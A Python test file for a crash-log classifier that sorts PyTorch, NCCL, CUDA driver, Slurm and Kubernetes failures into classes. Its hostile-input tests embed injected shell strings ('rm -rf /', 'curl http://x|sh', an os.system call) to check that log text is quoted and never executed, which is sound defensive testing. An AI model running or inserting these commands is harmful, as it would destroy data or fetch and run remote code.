"""The crash classifier (issue 39): its labelled corpus (crash_logs/<class>/<n>.txt beside it, written
from the real messages of PyTorch, NCCL, the CUDA driver, Slurm, Kubernetes and Python), one test per
rule, and hostile input (huge, binary, adversarial) that must be bounded, quoted and never executed."""

from __future__ import annotations

import builtins
import os
import re
import subprocess
import time
from collections import Counter
from pathlib import Path

import pytest

from runwatch.detectors.crash_classes import (
    CRASH_CLASSES,
    EVIDENCE_CHARS,
    RULES,
    CrashVerdict,
    classify,
    sanitize,
)

CORPUS = Path(__file__).parent / "crash_logs"
MIN_LOGS_PER_CLASS = 5
MIN_MACRO_F1 = 0.95


def load_log(path: Path) -> tuple[dict[str, str], str]:
    """A corpus file: ``# key: value`` lines (what a launcher knows: signal, exit_code, exception_type, and
    a note), a ``---`` line, then the text the crash said."""
    header, _, text = path.read_text().partition("\n---\n")
    facts = {}
    for line in header.splitlines():
        key, _, value = line.removeprefix("# ").partition(":")
        facts[key.strip()] = value.strip()
    return facts, text


def classify_log(path: Path) -> CrashVerdict:
    facts, text = load_log(path)
    return classify(
        text=text,
        exception_type=facts.get("exception_type") or None,
        signal=int(facts["signal"]) if facts.get("signal") else None,
        exit_code=int(facts["exit_code"]) if facts.get("exit_code") else None,
    )


def corpus() -> list[tuple[str, Path]]:
    return [(path.parent.name, path) for path in sorted(CORPUS.glob("*/*.txt"))]


def per_class_scores(pairs: list[tuple[str, str]]) -> dict[str, tuple[float, float, float]]:
    """Precision, recall and F1 of each class, from (truth, predicted) pairs."""
    scores = {}
    for cls in CRASH_CLASSES:
        tp = sum(1 for t, p in pairs if t == cls and p == cls)
        fp = sum(1 for t, p in pairs if t != cls and p == cls)
        fn = sum(1 for t, p in pairs if t == cls and p != cls)
        precision = tp / (tp + fp) if tp + fp else 0.0
        recall = tp / (tp + fn) if tp + fn else 0.0
        f1 = 2 * precision * recall / (precision + recall) if precision + recall else 0.0
        scores[cls] = (precision, recall, f1)
    return scores


# -- the corpus ------------------------------------------------------------------------------------


def test_the_corpus_has_enough_logs_of_every_class():
    counts = Counter(cls for cls, _ in corpus())
    assert set(counts) == set(CRASH_CLASSES), set(CRASH_CLASSES) ^ set(counts)
    assert all(counts[cls] >= MIN_LOGS_PER_CLASS for cls in CRASH_CLASSES), counts


def test_every_corpus_log_says_what_its_launcher_knew():
    for _, path in corpus():
        facts, text = load_log(path)
        assert set(facts) <= {"signal", "exit_code", "exception_type", "note"}, path
        assert facts.get("note"), f"{path}: a note saying what the log is"
        assert any(facts.get(k) for k in ("signal", "exit_code", "exception_type")), path


def test_the_corpus_is_classified_with_a_macro_f1_of_at_least_0_95(capsys):
    pairs, wrong = [], []
    for truth, path in corpus():
        verdict = classify_log(path)
        pairs.append((truth, verdict.crash_class))
        if verdict.crash_class != truth:
            wrong.append(
                f"{path.relative_to(CORPUS)}: {verdict.crash_class} by {verdict.rule}:"
                f" {verdict.evidence_line}"
            )
    scores = per_class_scores(pairs)
    macro_f1 = sum(f1 for _, _, f1 in scores.values()) / len(scores)
    with capsys.disabled():
        confusion = Counter(pairs)
        width = max(len(c) for c in CRASH_CLASSES)
        print(f"\ncrash corpus: {len(pairs)} logs, macro-F1 {macro_f1:.3f}")
        print(" " * (width + 2) + " ".join(c[:6].rjust(6) for c in CRASH_CLASSES) + "   prec  recall  f1")
        for truth in CRASH_CLASSES:
            row = " ".join(str(confusion[(truth, p)]).rjust(6) for p in CRASH_CLASSES)
            precision, recall, f1 = scores[truth]
            print(f"{truth.ljust(width)}  {row}   {precision:.2f}  {recall:.2f}    {f1:.2f}")
        for line in wrong:
            print("  misclassified:", line)
    assert macro_f1 >= MIN_MACRO_F1, wrong


def test_every_corpus_verdict_explains_itself():
    for _, path in corpus():
        verdict = classify_log(path)
        assert verdict.crash_class in CRASH_CLASSES
        assert verdict.explanation.endswith(".") and "{" not in verdict.explanation, verdict
        assert verdict.evidence_line, f"{path}: {verdict}"
        assert len(verdict.evidence_line) <= EVIDENCE_CHARS


def test_the_scores_count_a_wrong_class_against_both_classes():
    scores = per_class_scores(
        [("oom_host", "oom_host"), ("oom_host", "dataloader"), ("dataloader", "dataloader")]
    )
    assert scores["oom_host"] == (1.0, 0.5, pytest.approx(2 / 3))
    assert scores["dataloader"] == (0.5, 1.0, pytest.approx(2 / 3))


# -- the rules, one by one ---------------------------------------------------------------------------

RULE_CASES = [
    (
        "slurm_preemption",
        "slurmstepd: error: *** JOB 1 ON n1 CANCELLED AT 2024-01-01T00:00:00 DUE TO PREEMPTION ***",
        {},
    ),
    (
        "slurm_time_limit",
        "slurmstepd: error: *** JOB 1 ON n1 CANCELLED AT 2024-01-01T00:00:00 DUE TO TIME LIMIT ***",
        {},
    ),
    (
        "slurm_node_failure",
        "*** JOB 1 ON n1 CANCELLED AT 2024-01-01T00:00:00 DUE TO NODE FAILURE, SEE SLURMCTLD LOG ***",
        {},
    ),
    ("k8s_eviction", "Reason:       Evicted", {}),
    ("cloud_preemption", "the Spot Instance interruption notice arrived: terminating", {}),
    ("gpu_xid", "NVRM: Xid (PCI:0000:3b:00): 79, pid=1, name=python, GPU has fallen off the bus.", {}),
    ("gpu_xid", "dcgm: XID 48 detected on GPU 3", {}),
    ("ecc_uncorrectable", "RuntimeError: CUDA error: uncorrectable ECC error encountered", {}),
    ("gpu_lost", "Unable to determine the device handle for GPU0000:41:00.0: GPU is lost.", {}),
    (
        "nvlink_error",
        "NCCL WARN Cuda failure 'an uncorrectable NVLink error was detected during the execution'",
        {},
    ),
    (
        "pcie_fatal",
        "pcieport 0000:00:01.0: PCIe Bus Error: severity=Uncorrected (Fatal), type=Transaction Layer",
        {},
    ),
    ("runwatch_stop", "runwatch: step 12: stop applied: non-finite loss for 3 step(s) since step 10", {}),
    ("runwatch_stop", "runwatch: still running 30 s after a stop action; exiting with code 1", {}),
    ("nonfinite_halt", "Loss is nan, stopping training", {}),
    ("cuda_oom", "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB.", {}),
    ("cuda_oom", "", {"exception_type": "torch.cuda.OutOfMemoryError"}),
    ("oom_killer", "Out of memory: Killed process 4121 (python) total-vm:1kB", {"signal": 9}),
    ("oom_killer", "/sys/fs/cgroup/slurm/job_1/memory.events: oom_kill 1", {"signal": 9}),
    ("scheduler_memory_limit", "slurmstepd: error: Exceeded job memory limit", {"signal": 9}),
    ("scheduler_memory_limit", "      Reason:       OOMKilled", {"exit_code": 137}),
    (
        "host_alloc_failed",
        "RuntimeError: DefaultCPUAllocator: can't allocate memory: you tried to allocate 8 bytes.",
        {},
    ),
    ("host_alloc_failed", "", {"exception_type": "MemoryError"}),
    (
        "dataloader_worker",
        "RuntimeError: DataLoader worker (pid 42) is killed by signal: Segmentation fault.",
        {},
    ),
    ("dataloader_worker", "KeyError: Caught KeyError in DataLoader worker process 0.", {}),
    ("cuda_kernel_fault", "RuntimeError: CUDA error: device-side assert triggered", {}),
    ("cuda_kernel_fault", "RuntimeError: CUDA error: an illegal memory access was encountered", {}),
    (
        "nccl_watchdog_timeout",
        "[Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=9) ran for 600012"
        " milliseconds",
        {},
    ),
    (
        "nccl_error",
        "ncclRemoteError: A call failed possibly due to a network error or a remote process exiting"
        " prematurely.",
        {},
    ),
    (
        "gloo_or_socket",
        "RuntimeError: [../third_party/gloo/gloo/transport/tcp/pair.cc:534] Connection closed by peer"
        " [10.0.0.1]:1",
        {},
    ),
    (
        "c10d_store_timeout",
        "torch.distributed.DistStoreError: Timed out after 901 seconds waiting for clients. 1/2 clients"
        " joined.",
        {},
    ),
    ("native_crash", "line 12: 4411 Segmentation fault      (core dumped) python train.py", {}),
    ("native_crash", "terminate called after throwing an instance of 'std::system_error'", {"signal": 6}),
    ("fatal_signal", "step 5 loss 1.0", {"signal": 11}),
    ("fatal_signal", "step 5 loss 1.0", {"exit_code": 139}),
    ("fatal_signal", "step 5 loss 1.0", {"exit_code": -7}),
    ("launcher_stopped_siblings", "api.py:858] Sending process 77 closing signal SIGTERM", {"signal": 15}),
    ("sigterm", "step 5 loss 1.0", {"signal": 15}),
    ("sigterm", "step 5 loss 1.0", {"exit_code": 143}),
    ("sigterm", "step 5 loss 1.0", {"signal": 10}),
    ("sigterm_logged", "api.py:704] Received Signals.SIGTERM death signal, shutting down workers", {}),
    ("sigkill_unexplained", "step 5 loss 1.0", {"signal": 9}),
    ("keyboard_interrupt", "", {"exception_type": "KeyboardInterrupt"}),
    (
        "python_exception",
        'Traceback (most recent call last):\n  File "t.py", line 1, in <module>\nValueError: bad',
        {},
    ),
    ("python_exception", "", {"exception_type": "ValueError"}),
    ("slurm_cancelled", "slurmstepd: error: *** STEP 1.0 ON n1 CANCELLED AT 2024-01-01T00:00:00 ***", {}),
]


@pytest.mark.parametrize(
    ("rule", "text", "facts"), RULE_CASES, ids=[f"{r}-{i}" for i, (r, _, _) in enumerate(RULE_CASES)]
)
def test_each_rule_matches_its_messages(rule, text, facts):
    verdict = classify(text=text, **facts)
    assert verdict.rule == rule, verdict
    assert verdict.crash_class == next(r.crash_class for r in RULES if r.id == rule)


def test_every_rule_has_a_case_and_a_documented_row():
    tested = {rule for rule, _, _ in RULE_CASES}
    assert {r.id for r in RULES} <= tested, {r.id for r in RULES} - tested
    doc = (Path(__file__).resolve().parents[2] / "docs" / "crashes.md").read_text()
    undocumented = [r.id for r in RULES if f"`{r.id}`" not in doc]
    assert not undocumented, undocumented
    assert all(f"`{cls}`" in doc for cls in CRASH_CLASSES)


def test_the_rules_follow_the_documented_order():
    doc = (Path(__file__).resolve().parents[2] / "docs" / "crashes.md").read_text()
    order = [m.group(1) for m in re.finditer(r"^\| \d+ \| `([a-z0-9_]+)` \|", doc, flags=re.M)]
    assert order == [r.id for r in RULES]


def test_nothing_recognisable_is_unknown_with_its_last_line():
    verdict = classify(text="step 1 loss 2.0\nstep 2 loss 1.9\n", exit_code=1)
    assert (verdict.crash_class, verdict.rule, verdict.evidence_line) == (
        "unknown",
        "no_rule",
        "step 2 loss 1.9",
    )


# -- specific before general ------------------------------------------------------------------------------


def test_an_oom_in_a_dataloader_worker_is_an_oom():
    text = (
        "RuntimeError: Caught RuntimeError in DataLoader worker process 0.\n"
        "RuntimeError: [enforce fail at alloc_cpu.cpp:117] err == 0. DefaultCPUAllocator: can't allocate"
        " memory"
    )
    assert classify(text=text).crash_class == "oom_host"


def test_a_collective_timeout_with_a_hardware_xid_is_hardware():
    text = (
        "[Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=1) ran for 600012"
        " milliseconds\n"
        "NVRM: Xid (PCI:0000:1b:00): 48, pid=7, An uncorrectable double bit error (DBE) has been detected"
    )
    verdict = classify(text=text, signal=6)
    assert (verdict.crash_class, verdict.rule) == ("hardware", "gpu_xid")
    assert "Xid 48" in verdict.explanation


def test_an_application_xid_alone_is_not_hardware():
    text = "NVRM: Xid (PCI:0000:01:00): 31, pid=9, MMU Fault: ENGINE GRAPHICS faulted"
    assert classify(text=text).crash_class != "hardware"


def test_an_abort_that_names_a_collective_timeout_is_a_collective_timeout():
    text = (
        "terminate called after throwing an instance of 'c10::DistBackendError'\n"
        "  what():  Watchdog caught collective operation timeout"
    )
    assert classify(text=text, signal=6).crash_class == "collective_timeout"


def test_a_preemption_beats_the_collective_errors_it_caused():
    text = (
        "slurmstepd: error: *** JOB 9 ON n2 CANCELLED AT 2024-01-01T00:00:00 DUE TO PREEMPTION ***\n"
        "ncclRemoteError: A call failed possibly due to a network error or a remote process exiting"
        " prematurely."
    )
    assert classify(text=text).crash_class == "preemption"


def test_a_traceback_beats_the_step_cancellation_srun_adds_after_it():
    text = (
        'Traceback (most recent call last):\n  File "t.py", line 3, in <module>\n'
        "ZeroDivisionError: division by zero\n"
        "srun: error: n1: task 0: Exited with exit code 1\n"
        "slurmstepd: error: *** STEP 12.0 ON n1 CANCELLED AT 2024-01-01T00:00:00 ***"
    )
    assert classify(text=text, exit_code=1).crash_class == "user_code"


def test_a_sigterm_with_a_handler_traceback_is_a_preemption():
    text = (
        'Traceback (most recent call last):\n  File "t.py", line 9, in _on_term\n'
        "    raise KeyboardInterrupt\nKeyboardInterrupt"
    )
    assert classify(text=text, signal=15).crash_class == "preemption"


def test_the_launcher_closing_its_siblings_does_not_hide_the_failed_workers_traceback():
    text = (
        '[rank0]: Traceback (most recent call last):\n[rank0]:   File "t.py", line 3, in <module>\n'
        "[rank0]: KeyError: 'lr'\nSending process 12 closing signal SIGTERM\n"
    )
    verdict = classify(text=text, exit_code=1)
    assert (verdict.crash_class, verdict.evidence_line) == ("user_code", "[rank0]: KeyError: 'lr'")


def test_a_variable_named_after_memory_is_not_an_oom():
    text = (
        'Traceback (most recent call last):\n  File "m.py", line 4, in f\n'
        "    out_of_memory = memory_bank.cuda_out_of_memory_guard(MemoryErrorPolicy)\n"
        "NameError: name 'memory_bank' is not defined"
    )
    assert classify(text=text).crash_class == "user_code"


# -- hostile input -------------------------------------------------------------------------------------


@pytest.fixture
def nothing_executes(monkeypatch):
    """Whatever the text says, classify runs nothing: no eval, exec, shell or subprocess."""

    def refuse(*args, **kwargs):
        raise AssertionError(f"classify tried to run something: {args!r}")

    monkeypatch.setattr(builtins, "eval", refuse)
    monkeypatch.setattr(builtins, "exec", refuse)
    monkeypatch.setattr(os, "system", refuse)
    monkeypatch.setattr(os, "popen", refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)


def test_a_log_line_with_a_shell_command_is_quoted_never_run(nothing_executes, tmp_path):
    marker = tmp_path / "pwned"
    text = (
        f"slurmstepd: error: *** JOB 1 ON n1$(touch {marker}); rm -rf / `id` CANCELLED AT"
        f" 2024-01-01T00:00:00 "
        "DUE TO PREEMPTION ***\n__import__('os').system('id')"
    )
    verdict = classify(text=text)
    assert verdict.crash_class == "preemption"
    assert f"$(touch {marker})" in verdict.evidence_line  # quoted as text, for a person to read
    assert not marker.exists()


def test_a_forged_host_name_stays_inert_text(nothing_executes):
    text = "NVRM: Xid (PCI:0000:3b:00): 79, pid=1, name=python\x1b]0;evil\x07, host=node1;curl http://x|sh\n"
    verdict = classify(text=text)
    assert verdict.crash_class == "hardware"
    assert "\x1b" not in verdict.evidence_line and "\x07" not in verdict.evidence_line
    assert "\\x1b]0;evil\\x07" in verdict.evidence_line


def test_binary_input_is_classified_and_its_evidence_has_no_control_characters():
    junk = bytes(range(256)).decode("utf-8", errors="replace") * 200
    text = junk + "\n\x00\x00RuntimeError: CUDA out of memory. Tried\x00 to allocate\u202e 2 GiB\x00\n" + junk
    verdict = classify(text=text)
    assert verdict.crash_class == "oom_device"
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", verdict.evidence_line)
    assert "\\x00" in verdict.evidence_line and "\\u202e" in verdict.evidence_line
    assert len(verdict.evidence_line) <= EVIDENCE_CHARS


def test_a_huge_log_is_cut_to_its_head_and_tail_in_bounded_time():
    noise = "2024-01-01 00:00:00 step 1 loss 2.0 lr 1e-4 tok/s 40000\n" * 400_000  # ~22 MB
    at_the_end = noise + "torch.OutOfMemoryError: CUDA out of memory.\n" + noise[:1000]
    in_the_middle = noise + "torch.OutOfMemoryError: CUDA out of memory.\n" + noise
    started = time.perf_counter()
    tail = classify(text=at_the_end)
    middle = classify(text=in_the_middle)
    elapsed = time.perf_counter() - started
    assert tail.crash_class == "oom_device"
    assert middle.crash_class == "unknown"  # (the middle of a 22 MB log is not read: bounded work)
    assert elapsed < 1.0, elapsed


def test_one_huge_line_is_cut_in_the_evidence():
    verdict = classify(text="RuntimeError: CUDA out of memory. " + "x" * 5_000_000)
    assert verdict.crash_class == "oom_device"
    assert len(verdict.evidence_line) == EVIDENCE_CHARS and verdict.evidence_line.endswith("...")


@pytest.mark.parametrize(
    "adversarial",
    [
        "NCCL " * 20_000,
        "Traceback (most recent call last):\n" * 5_000,
        "Traceback (most recent call last):\n" + " " * 60_000 + "\n",
        "CANCELLED AT " * 8_000,
        "[rank1]:" * 12_000,
        "gloo " + "a" * 60_000,
        "DataLoader worker (pid " + "1" * 60_000,
        "NVRM: Xid (PCI:" + "0" * 60_000,
        ("a" * 4000 + "\n") * 20,
        "\n" * 100_000,
    ],
    ids=lambda s: repr(s[:20]),
)
def test_adversarial_text_does_not_backtrack(adversarial):
    started = time.perf_counter()
    verdict = classify(text=adversarial, exception_type="x" * 10_000, signal=11)
    assert time.perf_counter() - started < 0.5
    assert verdict.crash_class in CRASH_CLASSES


@pytest.mark.parametrize(
    "facts",
    [
        {"text": ""},
        {"text": "", "signal": 0},
        {"text": "", "signal": 999},
        {"text": "", "exit_code": 10**12},
        {"text": "", "exit_code": -(10**12)},
        {"text": "", "exception_type": ""},
        {"text": "", "exception_type": "\x00\n\x1b"},
    ],
)
def test_odd_launcher_facts_never_raise(facts):
    assert classify(**facts).crash_class in CRASH_CLASSES


def test_sanitize_escapes_and_cuts():
    assert sanitize("  a\tb\x00c\x1b[2J\u202ed  ") == "a\\x09b\\x00c\\x1b[2J\\u202ed"
    assert len(sanitize("y" * 1000)) == EVIDENCE_CHARS


def test_the_module_imports_nothing_that_runs_or_reads():
    detectors = Path(__file__).resolve().parents[2] / "detectors/runwatch/detectors"
    source = "".join((detectors / name).read_text() for name in ("crash_classes.py", "crash_rules.py"))
    imports = set(re.findall(r"^(?:from|import) ([\w.]+)", source, flags=re.M))
    allowed = {"__future__", "re", "collections.abc", "dataclasses", "runwatch.detectors.crash_rules"}
    assert imports <= allowed, imports
    assert not re.search(r"\b(?:eval|exec|compile|open|subprocess|os\.)\(", source.replace("re.compile(", ""))
